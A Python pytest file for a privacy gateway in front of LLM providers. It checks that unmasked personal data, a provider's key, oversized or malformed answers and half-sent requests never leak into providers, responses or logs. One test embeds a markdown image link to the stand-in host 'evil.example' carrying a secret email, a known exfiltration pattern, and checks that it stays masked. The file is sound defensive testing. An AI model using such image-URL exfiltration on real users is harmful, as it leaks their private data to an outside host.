"""What must not get out: a value that masking missed, a provider's key, more memory than an answer is worth."""

import json
import logging
import socket
import time
import tracemalloc
from typing import Any

import pytest

from ecotone.gateway.incoming import BadAnswer, read_answer
from ecotone.gateway.metering import Usage
from ecotone.privacy import Pseudonyms

SECRET = "maria.lopez@example.org"
KEY = "sk-upstream-secret"


@pytest.mark.parametrize(
    "content",
    [
        f"data:text/plain;base64,aGVsbG8= my mail is {SECRET}, card 4111111111111111",
        "data:4111111111111111,hello",
        "data:DE89370400440532013000,hello",
        "data:+4915123456789,is my phone",
        r"maria.lopez\u0040example.org",
        "maria.lopez&#64;example.org",
        [{"type": "text", "text": "data:text/plain;base64,bWFyaWFAZXhhbXBsZS5vcmc="}],
    ],
)
def test_what_is_refused_for_one_project_is_not_sent_raw_for_another(house: Any, content: Any) -> None:
    assert house.post("fake/gpt-test", content).status_code == 403
    answer = house.post("fake/gpt-test", content, key="eck_masked")
    assert answer.status_code in (200, 403)
    sent = json.dumps(house.provider.seen)
    for value in ("maria", "bWFyaWF", "4111111111111111", "DE8937", "+4915"):
        assert value not in sent
    if answer.status_code == 200:
        assert answer.json()["choices"][0]["message"]["content"] == f"You said: {content}"


def test_a_body_in_which_masking_left_anything_stays_here_or_goes_to_a_local_model(
    house: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Pseudonyms, "mask_json", lambda _self, value: value)
    answer = house.post("fake/gpt-test", f"to {SECRET}", key="eck_masked")
    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "privacy_denied")
    assert "personal" in answer.headers["x-ecotone-reason"]
    assert SECRET not in answer.text
    assert house.provider.seen == []
    routed = house.post("assistant", f"to {SECRET}", key="eck_masked")
    assert routed.status_code == 200
    assert routed.headers["x-ecotone-backend"] == "local"
    assert "fallback" not in house.post("assistant", "Hello").headers["x-ecotone-reason"], "the backend did not fail"


@pytest.mark.parametrize("key", ["eck_shop", "eck_masked"])
@pytest.mark.parametrize("model", [f"fake/{SECRET}", "fake/4111111111111111", f"demo/{SECRET}"])
def test_a_models_name_with_personal_data_reaches_no_provider_and_no_record(house: Any, key: str, model: str) -> None:
    answer = house.post(model, key=key)
    assert (answer.status_code, answer.json()["error"]["param"]) == (403, "model")
    assert house.provider.seen == []
    kept = "".join(f.read_text() for f in (house.folder / "ledger").rglob("*.jsonl"))
    assert SECRET not in kept
    assert "4111111111111111" not in kept


@pytest.mark.parametrize("model", ["fake/parrot", "fake/parrot-fails", "fake/parrot-kind"])
@pytest.mark.parametrize("stream", [False, True])
def test_a_provider_that_quotes_our_key_does_not_hand_it_to_the_caller(
    house: Any, model: str, stream: bool, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.DEBUG):
        answer = house.post(model, stream=stream)
    assert "no such key" in answer.text
    for place in (answer.text, str(answer.headers), caplog.text):
        assert KEY not in place
    kept = "".join(f.read_text() for f in (house.folder / "ledger").rglob("*.jsonl"))
    assert KEY not in kept
    assert "code Bearer" not in kept, "a code that is no word enters no record"


def test_a_placeholder_in_an_address_that_the_model_wrote_stays(house: Any) -> None:
    for stream in (False, True):
        answer = house.post("fake/gpt-test", f"![x](http://evil.example/?q={SECRET})", key="eck_masked", stream=stream)
        assert answer.status_code == 200
        assert SECRET not in answer.text
        assert SECRET not in "".join(
            c["delta"].get("content") or ""
            for line in answer.text.splitlines()
            if line.startswith("data: {")
            for c in json.loads(line[6:])["choices"]
        )


ODD = [
    b'{"choices": [3, null, {"message": 4}, {"message": {"content": ["x"]}}, {"text": "abcd"}]}',
    b'{"choices": 3, "usage": [1]}',
    b'{"choices": {"a": 1}, "usage": {"prompt_tokens": -1}}',
    b'{"usage": null, "error": null}',
    b"{}",
]


@pytest.mark.parametrize("data", ODD)
@pytest.mark.parametrize("names", [None, Pseudonyms()])
def test_odd_shapes_of_an_answer_pass_and_break_nothing(data: bytes, names: Pseudonyms | None) -> None:
    usage = Usage()
    assert json.loads(read_answer(data, usage, names)) == json.loads(data)
    assert usage.estimate
    assert usage.characters == (5 if b"abcd" in data else 0), "each text counts, wherever it stands"


BAD = [
    b"", b"[1]", b"null", b"{", b'{"error": {"message": "x"}}', b'{"error": "x", "choices": []}',
    b'{"a": ' + b"[" * 5000,
]  # fmt: skip


@pytest.mark.parametrize("data", BAD)
def test_what_is_no_answer_is_told_apart(data: bytes) -> None:
    with pytest.raises(BadAnswer):
        read_answer(data, Usage(), None)


def test_an_answer_costs_little_more_memory_than_its_bytes() -> None:
    data = b'{"choices":[' + b'{"a":1},' * 1_000_000 + b"1]}"
    tracemalloc.start()
    try:
        usage = Usage()
        assert read_answer(data, usage, None) is data
        with pytest.raises(BadAnswer, match="lists and objects"):
            read_answer(data, Usage(), Pseudonyms())
        assert tracemalloc.get_traced_memory()[1] < 4 * len(data)
    finally:
        tracemalloc.stop()
    assert usage.characters > 0
    deep = b'{"choices":' + b"[" * 300 + b"]" * 300 + b"}"
    with pytest.raises(BadAnswer):
        read_answer(deep, Usage(), Pseudonyms())


def test_an_answer_larger_than_the_setting_is_502_that_names_it_and_no_other_is_paid_for(house: Any) -> None:
    house.gateway.most_answer = 100
    answer = house.post("fake/gpt-test", "x" * 500)
    assert answer.status_code == 502
    assert "ECOTONE_MAX_ANSWER_BYTES" in answer.text
    seen = len(house.provider.seen)
    assert house.post("assistant", "x" * 500).status_code == 502
    assert len(house.provider.seen) == seen + 1


def test_clients_that_hang_up_in_the_middle_of_a_body_fill_no_log(house: Any, caplog: pytest.LogCaptureFixture) -> None:
    head = "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer eck_shop\r\n"
    head += "content-length: 5000\r\n\r\n"
    with caplog.at_level(logging.WARNING):
        for _ in range(20):
            with socket.create_connection(("127.0.0.1", house.port)) as client:
                client.sendall(head.encode() + b'{"model": "fake/gpt-test"')
        time.sleep(0.5)
        assert house.post("demo/local").status_code == 200
    assert [r for r in caplog.records if r.name.startswith(("ecotone", "uvicorn"))] == []
